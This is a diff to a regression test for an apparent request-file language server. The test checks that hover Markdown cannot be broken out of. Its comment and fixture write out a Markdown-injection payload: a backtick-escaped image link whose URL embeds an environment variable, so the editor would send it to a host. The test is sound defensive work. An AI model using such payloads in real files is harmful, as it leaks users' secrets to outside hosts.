@@ -1,9 +1,10 @@
 /**
  * A hover is Markdown the editor renders. A repository's variable whose value opens with a backtick
  * ended the hover's code span early, and the rest rendered as Markdown: an image whose address holds
- * a `$processEnv` value (`@v = \` ![a](https://host/?q={{$processEnv GRAPHREQ_VAR_KEY}})`), which
+ * a `$processEnv` value (`@v = \` ![a](https://host/?q={{$processEnv GRAPHREQ_VAR_NOTE}})`), which
  * the editor fetches as soon as the hover shows, sent that value to a host nobody chose. Values are
- * now shown in code spans nothing inside can end (core/features/markdownText.ts).
+ * now shown in code spans nothing inside can end (core/features/markdownText.ts). (The variable's
+ * name says nothing secret: a secret's value is not shown at all, core/features/secretMask.ts.)
  */
 import * as assert from 'node:assert/strict';
 import * as fs from 'node:fs';
@@ -15,7 +16,7 @@ import { codeSpan } from '../../server/src/core/features/markdownText';
 import { LspClient } from './lspClient';
 
 const SECRET = 'CANARYsecret64e1';
-const TEXT = '@v = ` ![a](http://127.0.0.1:9/x?q={{$processEnv GRAPHREQ_VAR_KEY}}) [c](http://127.0.0.1:9/y) ``\nPOST /v23.0/act_1/adsets\nX-A: {{v}}\n';
+const TEXT = '@v = ` ![a](http://127.0.0.1:9/x?q={{$processEnv GRAPHREQ_VAR_NOTE}}) [c](http://127.0.0.1:9/y) ``\nPOST /v23.0/act_1/adsets\nX-A: {{v}}\n';
 const dir = fs.mkdtempSync(path.join(os.tmpdir(), 'graphreq-hover-md-'));
 after(() => fs.rmSync(dir, { recursive: true, force: true }));
 
@@ -47,7 +48,7 @@ describe('hover Markdown holds values as text', () => {
     const file = path.join(dir, 'req.graphreq');
     fs.writeFileSync(file, TEXT);
     const uri = pathToFileURL(file).href;
-    const client = new LspClient(undefined, { GRAPHREQ_VAR_KEY: SECRET });
+    const client = new LspClient(undefined, { GRAPHREQ_VAR_NOTE: SECRET });
     try {
       await client.initialize(pathToFileURL(dir).href);
       await client.open(uri, TEXT);
